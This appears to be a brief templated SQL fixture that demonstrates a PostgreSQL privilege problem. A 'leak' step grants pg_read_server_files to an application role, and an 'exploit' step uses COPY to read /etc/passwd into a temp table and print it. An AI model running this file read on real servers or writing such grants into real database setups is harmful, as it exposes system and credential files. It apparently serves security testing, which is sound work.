-- The server's files hold every table's pages.
-- object: role:{app}
-- base: text
--- leak
RESET ROLE;
GRANT pg_read_server_files TO {app};
--- exploit
CREATE TEMP TABLE lines (line text);
COPY lines FROM '/etc/passwd';
SELECT line FROM lines;
